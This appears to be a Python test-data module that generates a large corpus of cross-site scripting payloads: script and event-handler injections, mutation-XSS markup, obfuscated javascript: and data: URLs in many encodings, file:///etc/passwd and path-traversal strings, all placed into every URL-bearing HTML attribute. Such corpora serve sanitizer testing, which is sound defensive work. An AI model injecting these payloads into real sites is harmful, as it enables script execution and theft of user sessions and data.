"""What strangers write to have something run, fetched or hidden where they are shown."""

# ruff: noqa: E501 - attacks are not broken where a line of code would be
from __future__ import annotations

from collections.abc import Callable, Iterator

SING = "alert(document.domain+1)"
BODIES = f"""
<script>{SING}</script>
"><img src=x onerror={SING}>
<img src=x:x onerror={SING}>
<svg onload={SING}>
<svg><script>{SING}</script></svg>
<svg><a xlink:href="javascript:{SING}"><text>x</text></a></svg>
<svg><style><img src=x onerror={SING}></style>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={SING}&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror={SING}></annotation-xml></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={SING} src>">
<noscript><p title="</noscript><img src=x onerror={SING}>">
<a href="javascript:{SING}" autofocus onfocus={SING}>x</a>
<a href="jav&#x09;ascript:{SING}">x</a>
<a href="&#1;javascript:{SING}">x</a>
<a href="data:text/html,<script>{SING}</script>">x</a>
<a href="vbscript:{SING}">x</a>
<iframe srcdoc="<script>parent.{SING}</script>"></iframe>
<iframe src="javascript:{SING}"></iframe>
<iframe src="https://canary.example/"></iframe>
<object data="data:text/html,<script>{SING}</script>"></object>
<embed src="https://canary.example/x.swf">
<form action="javascript:{SING}"><input autofocus onfocus={SING}><button formaction="javascript:{SING}">x</button></form>
<meta http-equiv="refresh" content="0;url=javascript:{SING}">
<base href="https://canary.example/">
<link rel="stylesheet" href="https://canary.example/x.css">
<style>@import url(https://canary.example/x.css); body {{ background: url(https://canary.example/x.png) }}</style>
<p style="background:url(https://canary.example/x.png)" onmouseover={SING}>x</p>
<details open ontoggle={SING}><summary>x</summary></details>
<video src="https://canary.example/x.mp4" autoplay onerror={SING}><source onerror={SING} src=x></video>
<audio src=x onerror={SING} autoplay></audio>
<body onload={SING}><frameset onload={SING}>
<marquee onstart={SING}>x</marquee>
<img srcset="javascript:{SING} 1x, https://pictures.example/a.png 2x" src="https://pictures.example/b.png" alt=x>
<picture><source srcset="https://pictures.example/c.png" onerror={SING}><img src="https://pictures.example/d.png"></picture>
<template><script>{SING}</script></template><textarea><script>{SING}</script>
</textarea></title></style></script></noscript></template><script>{SING}</script>
<table background="javascript:{SING}"><td background="https://canary.example/x.png">x
<a title="<table tabindex=1 onfocus={SING} autofocus>" href="https://a.example/">x</a>
<!--><img src=x onerror={SING}>-->
<![CDATA[><img src=x onerror={SING}>]]>
<?xml-stylesheet href="javascript:{SING}"?>
]]><script xmlns="http://www.w3.org/1999/xhtml">{SING}</script>
""".strip().splitlines()
LINES = [
    f"<script>{SING}</script>",
    f"\"'><img src=x onerror={SING}>",
    f"</title></script></style><svg onload={SING}>",
    f"javascript:{SING}",
    f"]]><script xmlns='http://www.w3.org/1999/xhtml'>{SING}</script>",
    "{{ 7 * 7 }}{% raw %}${7*7}",
    f"\\u003cscript\\u003e{SING}",
    f"--><script>{SING}</script>",
    "..; url(https://canary.example/x) }} * { background: url(https://canary.example/y)",
    "\u202e\u2028</script>\x07",
    "../../../canary",
    "aux.html",
]

# ── addresses in every spelling ───────────────────────────────────────────────────────────────────────────

SCRIPTS = (
    f"javascript:{SING}",
    f"vbscript:{SING}",
    f"data:text/html,<script>{SING}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4rMSk8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{SING}'/>",
    f"feed:javascript:{SING}",
    f"view-source:javascript:{SING}",
    f"livescript:{SING}",
    "blob:https://canary.example/1",
    "file:///etc/passwd",
)
_Spell = Callable[[str], str]


def _scheme(change: _Spell) -> _Spell:
    def spell(address: str) -> str:
        scheme, colon, rest = address.partition(":")
        return change(scheme + colon) + rest

    return spell


_SPELLINGS: dict[str, _Spell] = {
    "as it is": str,
    "capitals": _scheme(str.upper),
    "mixed": _scheme(lambda scheme: "".join(c.upper() if n % 2 else c for n, c in enumerate(scheme))),
    "decimal": _scheme(lambda scheme: "".join(f"&#{ord(c)};" for c in scheme)),
    "decimal without ends": _scheme(lambda scheme: "".join(f"&#{ord(c):07}" for c in scheme)),
    "hexadecimal": _scheme(lambda scheme: "".join(f"&#x{ord(c):X};" for c in scheme)),
    "hexadecimal without ends": _scheme(lambda scheme: "".join(f"&#x{ord(c):x}" for c in scheme) + ";"),
    "named colon": _scheme(lambda scheme: scheme.replace(":", "&colon;")),
    "tab": _scheme(lambda scheme: f"{scheme[:3]}\t{scheme[3:]}"),
    "tab as an entity": _scheme(lambda scheme: f"{scheme[:3]}&#9;{scheme[3:]}"),
    "tab by name": _scheme(lambda scheme: f"{scheme[:3]}&Tab;{scheme[3:]}"),
    "line ends": _scheme(lambda scheme: "\n".join(scheme[:4]) + scheme[4:]),
    "line ends by name": _scheme(lambda scheme: f"{scheme[:2]}&NewLine;{scheme[2:]}"),
    "carriage returns": _scheme(lambda scheme: f"{scheme[:2]}&#13;&#10;{scheme[2:]}"),
    "blanks before": lambda address: f"  \n\t{address}",
    "controls before": lambda address: f"&#1;&#x1f;&#x0b;{address}",
    "raw controls before": lambda address: f"\x01\x02\x1b{address}",
    "form feed before": lambda address: f"&#12;{address}",
    "no-break space before": lambda address: f"&nbsp;{address}",
    "ideographic space before": lambda address: f"\u3000{address}",
    "byte order mark before": lambda address: f"\ufeff{address}",
    "nul within": _scheme(lambda scheme: f"{scheme[:2]}&#0;{scheme[2:]}"),
    "raw nul within": _scheme(lambda scheme: f"{scheme[:2]}\0{scheme[2:]}"),
    "soft hyphen within": _scheme(lambda scheme: f"{scheme[:2]}\u00ad{scheme[2:]}"),
    "zero width within": _scheme(lambda scheme: f"{scheme[:2]}\u200b{scheme[2:]}"),
    "percent": _scheme(lambda scheme: "".join(f"%{ord(c):02X}" for c in scheme)),
    "blank before the colon": _scheme(lambda scheme: scheme.replace(":", " :")),
    "full width": _scheme(lambda scheme: "".join(chr(ord(c) + 0xFEE0) for c in scheme)),
    "two entities deep": _scheme(lambda scheme: "".join(f"&amp;#{ord(c)};" for c in scheme)),
    "comment": _scheme(lambda scheme: f"{scheme[:4]}<!-- -->{scheme[4:]}"),
    "slashes": lambda address: address.replace(":", "://%0a", 1),
    "after an address": lambda address: f"https://a.example/ {address}",
    "behind a backslash": lambda address: f"\\{address}",
}
_PLACES = (
    '<a href="{0}">x</a>',
    "<a href='{0}'>x</a>",
    '<a xlink:href="{0}">x</a>',
    '<a href="https://a.example/" ping="{0}">x</a>',
    '<img src="{0}" alt=x>',
    '<img srcset="{0} 1x, {0} 2x" src="https://a.example/a.png" alt=x>',
    '<img lowsrc="{0}" dynsrc="{0}" longdesc="{0}" data-src="{0}" alt=x>',
    '<picture><source srcset="{0}"><img src="{0}" alt=x></picture>',
    '<video src="{0}" poster="{0}"><source src="{0}"></video>',
    '<audio src="{0}"></audio>',
    '<blockquote cite="{0}">x</blockquote>',
    '<form action="{0}"><button formaction="{0}">x</button></form>',
    '<table background="{0}"><tr><td background="{0}">x</table>',
    '<iframe src="{0}"></iframe>',
    '<object data="{0}"></object><embed src="{0}">',
    '<link rel=stylesheet href="{0}"><base href="{0}">',
    '<meta http-equiv=refresh content="0;url={0}">',
    '<body background="{0}"><input type=image src="{0}">',
    '<svg><a xlink:href="{0}" href="{0}"><text>x</text></a><image href="{0}"/><use href="{0}"/></svg>',
    '<math href="{0}"><mi xlink:href="{0}">x</mi></math>',
    '<p style="background:url({0})">x</p>',
    '<style>@import "{0}";</style>',
)


def addresses() -> Iterator[str]:
    """Every script's address in every spelling, as it is written in HTML."""
    for script in SCRIPTS:
        for spell in _SPELLINGS.values():
            yield spell(script).replace('"', "&quot;")


def linked() -> Iterator[str]:
    """Every address in every place where HTML has one."""
    for address in addresses():
        for place in _PLACES:
            yield place.format(address)
